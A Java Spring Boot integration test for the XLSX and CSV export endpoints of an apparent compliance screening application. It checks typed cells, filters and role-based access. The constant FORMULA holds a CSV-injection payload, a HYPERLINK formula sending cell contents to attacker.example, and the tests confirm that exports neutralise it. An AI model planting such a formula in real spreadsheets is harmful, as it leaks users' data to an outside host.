package edu.scrutiny.app.reporting;

import edu.scrutiny.app.Scenarios;
import edu.scrutiny.app.identity.ApiTokens;
import edu.scrutiny.app.identity.Role;
import edu.scrutiny.app.identity.Users;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DateUtil;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.test.annotation.DirtiesContext;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;

import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Exports over a real server: the XLSX read back with POI (typed cells, a frozen header with filters,
 * no formula anywhere even where a party's name is one), the CSV read back as CSV, filters, and who
 * may take them.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
@DirtiesContext
class ExportsTest {
    /** A counterparty whose name a spreadsheet would run: the CSV-injection payload OWASP describes. */
    static final String FORMULA = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")";
    static final String ENTITY_LIST = """
            id,name,aliases,schema,country,programs,listed_on,delisted_on,parent,ownership,source_url,remarks
            el-huawei,"Huawei Technologies Co., Ltd.",Huawei,Company,CN,Entity List,2019-05-16,,,,https://www.federalregister.gov/,Added by 84 FR 22961
            """;

    @TempDir
    static Path data;

    @DynamicPropertySource
    static void database(DynamicPropertyRegistry registry) {
        registry.add("spring.datasource.url", () -> Scenarios.h2Url(data));
        registry.add("spring.datasource.username", () -> "sa");
        registry.add("spring.datasource.password", () -> "");
    }

    @LocalServerPort
    int port;
    @Autowired
    Users users;
    @Autowired
    ApiTokens tokens;

    private static String analyst;
    private static String submitter;
    private final HttpClient http = HttpClient.newHttpClient();

    @BeforeEach
    void seed() throws Exception {
        if (analyst != null) {
            return;
        }
        users.add("export-analyst", null, null, Set.of(Role.ANALYST), null, "test");
        users.add("export-submitter", null, null, Set.of(Role.SUBMITTER), null, "test");
        analyst = tokens.create("export-analyst", "ExportsTest", "test").secret();
        submitter = tokens.create("export-submitter", "ExportsTest", "test").secret();
        String boundary = "----exports";
        String multipart = "--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"us_bis_entity_list.csv\"\r\n"
                + "Content-Type: text/csv\r\n\r\n" + ENTITY_LIST + "\r\n--" + boundary + "--\r\n";
        HttpResponse<String> imported = http.send(HttpRequest.newBuilder(uri("/api/lists/import?effective=2019-01-01&category=export_control"))
                .header("Authorization", "Bearer " + analyst).header("Content-Type", "multipart/form-data; boundary=" + boundary)
                .POST(HttpRequest.BodyPublishers.ofString(multipart)).build(), HttpResponse.BodyHandlers.ofString());
        assertThat(imported.statusCode()).as(imported.body()).isEqualTo(201);
        submit(submitter, """
                {"title": "Sponsored research: antennas", "type": "sponsored_research", "renewal": false, "submitted_on": "2019-06-03",
                 "department": "EECS", "funding": {"amount": 750000.5, "currency": "USD", "source": "industry"},
                 "parties": [{"name": "Huawei Technologies Co., Ltd.", "kind": "organization", "country": "CN", "role": "sponsor"}],
                 "work_countries": ["US"], "research_areas": ["networking_communications"]}""");
        submit(submitter, """
                {"title": "-2+3 workshop", "type": "collaboration", "renewal": false, "submitted_on": "2020-02-01",
                 "funding": {"amount": 1000, "currency": "EUR", "source": "foundation"},
                 "parties": [{"name": "%s", "kind": "organization", "country": "DE", "role": "collaborator"}],
                 "work_countries": ["DE"], "research_areas": ["mathematics"]}"""
                .formatted(FORMULA.replace("\"", "\\\"")));
    }

    @Test
    void engagementsAsXlsxHaveTypedCellsAFrozenFilteredHeaderAndNoFormula() throws Exception {
        HttpResponse<byte[]> r = get("/api/exports/engagements.xlsx", analyst);
        assertThat(r.statusCode()).isEqualTo(200);
        assertThat(r.headers().firstValue("Content-Type").orElseThrow()).startsWith("application/vnd.openxmlformats");
        assertThat(r.headers().firstValue("Content-Disposition").orElseThrow()).contains("attachment").contains(".xlsx");
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(r.body()))) {
            XSSFSheet sheet = book.getSheetAt(0);
            assertThat(sheet.getPaneInformation().isFreezePane()).isTrue();
            assertThat(sheet.getPaneInformation().getHorizontalSplitPosition()).isEqualTo((short) 1);
            assertThat(sheet.getCTWorksheet().isSetAutoFilter()).isTrue();
            Row head = sheet.getRow(0);
            List<String> headers = new ArrayList<>();
            head.forEach(c -> headers.add(c.getStringCellValue()));
            assertThat(headers).startsWith("id", "submitted_on", "status", "tier", "type", "title");
            assertThat(sheet.getLastRowNum()).isEqualTo(2);
            Row first = sheet.getRow(1);
            Cell submitted = first.getCell(headers.indexOf("submitted_on"));
            assertThat(submitted.getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(DateUtil.isCellDateFormatted(submitted)).isTrue();
            assertThat(submitted.getLocalDateTimeCellValue().toLocalDate()).isEqualTo(LocalDate.of(2019, 6, 3));
            Cell amount = first.getCell(headers.indexOf("funding_amount"));
            assertThat(amount.getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(amount.getNumericCellValue()).isEqualTo(750000.5);
            assertThat(first.getCell(headers.indexOf("tier")).getStringCellValue()).isEqualTo("ELEVATED");
            Row second = sheet.getRow(2);
            assertThat(second.getCell(headers.indexOf("parties")).getStringCellValue()).isEqualTo("'" + FORMULA);
            assertThat(second.getCell(headers.indexOf("title")).getStringCellValue()).isEqualTo("'-2+3 workshop");
            for (Row row : sheet) {
                for (Cell c : row) {
                    assertThat(c.getCellType()).as("cell %s", c.getAddress()).isNotEqualTo(CellType.FORMULA);
                }
            }
        }
    }

    @Test
    void engagementsAsCsvAreUtf8WithAHeaderAndNeutralisedText() throws Exception {
        HttpResponse<byte[]> r = get("/api/exports/engagements.csv?type=collaboration", analyst);
        assertThat(r.statusCode()).isEqualTo(200);
        String text = new String(r.body(), StandardCharsets.UTF_8);
        assertThat(text).startsWith("\uFEFFid,submitted_on,");
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(text.substring(1))).getRecords();
        assertThat(rows).hasSize(1);
        assertThat(rows.get(0).get("parties")).isEqualTo("'" + FORMULA);
        assertThat(rows.get(0).get("submitted_on")).isEqualTo("2020-02-01");
        assertThat(rows.get(0).get("funding_amount")).isEqualTo("1000");
    }

    @Test
    void hitsCarryTheirScoreAsANumberAndTheListVersion() throws Exception {
        HttpResponse<byte[]> r = get("/api/exports/hits.xlsx?list=us_bis_entity_list", analyst);
        assertThat(r.statusCode()).isEqualTo(200);
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(r.body()))) {
            XSSFSheet sheet = book.getSheetAt(0);
            List<String> headers = new ArrayList<>();
            sheet.getRow(0).forEach(c -> headers.add(c.getStringCellValue()));
            assertThat(sheet.getLastRowNum()).isGreaterThanOrEqualTo(1);
            Row hit = sheet.getRow(1);
            assertThat(hit.getCell(headers.indexOf("source_id")).getStringCellValue()).isEqualTo("el-huawei");
            assertThat(hit.getCell(headers.indexOf("score")).getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(hit.getCell(headers.indexOf("score")).getNumericCellValue()).isBetween(0.8, 1.0);
        }
    }

    @Test
    void theScreeningLogExportsWithItsSearchAsFilters() throws Exception {
        HttpResponse<String> screened = http.send(HttpRequest.newBuilder(uri("/api/screenings"))
                .header("Authorization", "Bearer " + analyst).header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString("{\"name\": \"+Huawei Technologies\", \"schema\": \"organization\", \"purpose\": \"vendor check\"}"))
                .build(), HttpResponse.BodyHandlers.ofString());
        assertThat(screened.statusCode()).as(screened.body()).isEqualTo(201);
        HttpResponse<byte[]> r = get("/api/exports/screenings.csv?q=huawei", analyst);
        assertThat(r.statusCode()).as(new String(r.body(), StandardCharsets.UTF_8)).isEqualTo(200);
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(new String(r.body(), StandardCharsets.UTF_8).substring(1))).getRecords();
        assertThat(rows).hasSize(1);
        assertThat(rows.get(0).get("name")).isEqualTo("'+Huawei Technologies");
        assertThat(rows.get(0).get("run_by")).isEqualTo("export-analyst");
        assertThat(rows.get(0).get("purpose")).isEqualTo("vendor check");
        assertThat(Integer.parseInt(rows.get(0).get("result_count"))).isPositive();
        HttpResponse<byte[]> none = get("/api/exports/screenings.csv?user=nobody", analyst);
        assertThat(new String(none.body(), StandardCharsets.UTF_8).split("\r\n")).hasSize(1);
    }

    @Test
    void aFilterThatMatchesNothingGivesTheHeaderAlone() throws Exception {
        HttpResponse<byte[]> r = get("/api/exports/engagements.csv?tier=STANDARD&country=KP", analyst);
        assertThat(r.statusCode()).isEqualTo(200);
        String[] lines = new String(r.body(), StandardCharsets.UTF_8).split("\r\n");
        assertThat(lines).hasSize(1);
        assertThat(lines[0]).contains("id,submitted_on");
        HttpResponse<byte[]> cases = get("/api/exports/cases.xlsx?stage=senior_risk_group", analyst);
        assertThat(cases.statusCode()).as(new String(cases.body(), StandardCharsets.UTF_8)).isEqualTo(403);
    }

    @Test
    void badRequestsNameWhatIsWrong() throws Exception {
        HttpResponse<byte[]> badFilter = get("/api/exports/engagements.csv?colour=red", analyst);
        assertThat(badFilter.statusCode()).isEqualTo(400);
        assertThat(new String(badFilter.body(), StandardCharsets.UTF_8)).contains("colour");
        HttpResponse<byte[]> badTier = get("/api/exports/engagements.csv?tier=HIGH", analyst);
        assertThat(badTier.statusCode()).isEqualTo(400);
        assertThat(new String(badTier.body(), StandardCharsets.UTF_8)).contains("tier").contains("elevated");
        HttpResponse<byte[]> badFormat = get("/api/exports/engagements.pdf", analyst);
        assertThat(badFormat.statusCode()).isEqualTo(400);
        assertThat(new String(badFormat.body(), StandardCharsets.UTF_8)).contains("format");
        HttpResponse<byte[]> badWhat = get("/api/exports/secrets.csv", analyst);
        assertThat(badWhat.statusCode()).isEqualTo(400);
    }

    @Test
    void submittersTakeNoExport() throws Exception {
        for (String what : List.of("engagements", "hits", "cases", "screenings", "audit")) {
            assertThat(get("/api/exports/" + what + ".csv", submitter).statusCode()).as(what).isEqualTo(403);
        }
        assertThat(http.send(HttpRequest.newBuilder(uri("/api/exports/engagements.csv")).build(),
                HttpResponse.BodyHandlers.discarding()).statusCode()).isEqualTo(401);
    }

    private void submit(String token, String json) throws Exception {
        HttpResponse<String> r = http.send(HttpRequest.newBuilder(uri("/api/engagements"))
                .header("Authorization", "Bearer " + token).header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString(json)).build(), HttpResponse.BodyHandlers.ofString());
        assertThat(r.statusCode()).as(r.body()).isEqualTo(201);
    }

    private HttpResponse<byte[]> get(String path, String token) throws Exception {
        return http.send(HttpRequest.newBuilder(uri(path)).header("Authorization", "Bearer " + token).build(),
                HttpResponse.BodyHandlers.ofByteArray());
    }

    private URI uri(String path) {
        return URI.create("http://127.0.0.1:" + port + path);
    }
}
